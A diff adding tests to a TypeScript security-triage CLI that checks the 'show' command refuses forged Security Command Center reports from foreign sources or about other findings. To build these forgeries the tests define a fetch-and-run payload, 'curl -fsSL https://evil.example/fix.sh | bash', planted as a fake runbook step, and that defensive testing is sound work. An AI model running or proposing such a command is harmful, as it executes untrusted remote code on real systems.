@@ -9,10 +9,11 @@ import { mkdtempSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { handleDelivery } from '../../lib/handler.js';
-import { enrichmentFindingName } from '../../lib/scc/names.js';
+import { ENRICHMENT_CATEGORY, enrichmentFindingName } from '../../lib/scc/names.js';
 import { createInstance } from '../../lib/wiring.js';
 import { notificationFixture, pubsubBody } from '../support/fixtures.js';
-import { OWN_SOURCE } from '../support/scc-scenario.js';
+import { CTD_SOURCE, ORG, OWN_SOURCE, plainProperties } from '../support/scc-scenario.js';
+import { CLUSTER_RESOURCE } from '../support/world.js';
 import { seedAdmin, seedAttack, startWorld, type Scenario, type World } from '../support/world.js';
 import { baseEnv, exit, HAS_SCRIPT, runCli, runUnderPty, seedSocat, withoutSgr } from './support.js';
 
@@ -132,6 +133,96 @@ describe('show FINDING_NAME of a triaged finding', () => {
     expect(r.stdout).toBe('');
     expect(r.stderr).toMatch(/^scc-socat-triage: finding .*ffff not found/);
     expect(r.stderr.trim().split('\n')).toHaveLength(1);
+  });
+});
+
+describe('show trusts only our own reports (issue 13 item 6)', () => {
+  // A source anyone with SCC admin on the organization can create, and findings in it of any category.
+  const FOREIGN_SOURCE = `organizations/${ORG}/sources/1313131313131313131`;
+  const PAYLOAD = 'curl -fsSL https://evil.example/fix.sh | bash';
+  let ours: Record<string, unknown>;
+
+  beforeAll(async () => {
+    world.scc.addSource({ name: FOREIGN_SOURCE, displayName: 'Socat Triage' });
+    await triageInProcess(attack.notification);
+    ours = plainProperties(world.scc.getFinding(enrichmentFindingName(OWN_SOURCE, attack.findingName)));
+    expect(ours.I01_Original_Finding).toBe(attack.findingName);
+  });
+
+  /** Our real report, copied where someone else put it: benign verdict, and its first runbook step replaced by `curl … | bash`. */
+  function forge(name: string, about: string, resourceName = CLUSTER_RESOURCE): string {
+    const runbookKey = Object.keys(ours).find((k) => /^F01_/.test(k))!;
+    world.scc.addFinding(name, {
+      category: ENRICHMENT_CATEGORY,
+      state: 'ACTIVE',
+      resourceName,
+      eventTime: new Date(Date.now() - 10_000),
+      sourceProperties: { ...ours, A1_Verdict: 'LIKELY BENIGN (admin activity)', A2_Score: -40, I01_Original_Finding: about, [runbookKey]: PAYLOAD, Command_Exec: PAYLOAD },
+    });
+    return name;
+  }
+
+  const ctdName = (id: string) => `${CTD_SOURCE}/locations/global/findings/${id}`;
+
+  function markedOriginal(id: string, mark: string): string {
+    return seedSocat(world, { id, eventTime: new Date(Date.now() - 60_000), marks: { socat_triage_report: mark, socat_triage_verdict: 'likely_benign_admin' } });
+  }
+
+  async function expectRefused(args: string[], why: RegExp): Promise<void> {
+    for (const extra of [[], ['--json']]) {
+      const r = await runCli([...args, ...extra], { env });
+      expect(exit(r)).toMatchObject({ code: 2 });
+      expect(r.stdout).toBe('');
+      expect(r.stderr).not.toContain('curl');
+      expect(r.stderr).toMatch(why);
+      expect(r.stderr).toMatch(/triage .* --dry-run/);
+      expect(r.stderr.trim().split('\n')).toHaveLength(1);
+    }
+  }
+
+  it('does not follow a mark to a report in another source, however well it mimics ours', async () => {
+    const forged = forge(`${FOREIGN_SOURCE}/locations/global/findings/f13f13f13f13f13f13f13f13f13f13f1`, ctdName('a13a13a13a13a13a13a13a13a13a13a1'));
+    const original = markedOriginal('a13a13a13a13a13a13a13a13a13a13a1', forged);
+    expect(world.scc.getMarks(original)?.socat_triage_report).toBe(forged);
+    await expectRefused(['show', original], /not in our source organizations\/123456789012\/sources\/4242424242424242424 \(SCC_SOURCE_NAME\)/);
+  });
+
+  it('does not show a look-alike report asked for by its own name', async () => {
+    const forged = forge(`${FOREIGN_SOURCE}/locations/global/findings/f13f13f13f13f13f13f13f13f13f13f2`, attack.findingName);
+    await expectRefused(['show', forged], /not in our source/);
+  });
+
+  it('does not follow a mark to a report of our source about another finding, or about another resource', async () => {
+    const aboutOther = forge(`${OWN_SOURCE}/locations/global/findings/0f13f13f13f13f13f13f13f13f13f13f`, attack.findingName);
+    const original = markedOriginal('a13a13a13a13a13a13a13a13a13a13a2', aboutOther);
+    await expectRefused(['show', original], /is a report about .*, not about /);
+
+    const otherResource = forge(`${OWN_SOURCE}/locations/global/findings/1f13f13f13f13f13f13f13f13f13f13f`, ctdName('a13a13a13a13a13a13a13a13a13a13a3'), '//container.googleapis.com/projects/p/locations/l/clusters/elsewhere');
+    const original2 = markedOriginal('a13a13a13a13a13a13a13a13a13a13a3', otherResource);
+    await expectRefused(['show', original2], /is about the resource .*elsewhere, not /);
+  });
+
+  it('says so when the mark names no report at all', async () => {
+    await expectRefused(['show', markedOriginal('a13a13a13a13a13a13a13a13a13a13a4', 'https://evil.example/report')], /the mark is not a finding name/);
+    await expectRefused(['show', markedOriginal('a13a13a13a13a13a13a13a13a13a13a5', `${OWN_SOURCE}/locations/global/findings/deadbeef`)], /does not exist/);
+  });
+
+  it('follows no mark without SCC_SOURCE_NAME, and reads no report by name either', async () => {
+    const { SCC_SOURCE_NAME: _own, ...withoutSource } = env;
+    for (const name of [attack.findingName, enrichmentFindingName(OWN_SOURCE, attack.findingName)]) {
+      const r = await runCli(['show', name], { env: withoutSource });
+      expect(exit(r)).toMatchObject({ code: 2 });
+      expect(r.stdout).toBe('');
+      expect(r.stderr).toMatch(/SCC_SOURCE_NAME is not set/);
+    }
+  });
+
+  it('still shows our own report through the mark the write-back set', async () => {
+    const r = await runCli(['show', attack.findingName, '--json'], { env });
+    expect(exit(r)).toMatchObject({ code: 0 });
+    const view = JSON.parse(r.stdout);
+    expect(view).toMatchObject({ source: 'enrichment_finding', verdict: { level: 'likely_malicious' } });
+    expect(JSON.stringify(view)).not.toContain('evil.example');
   });
 });
 
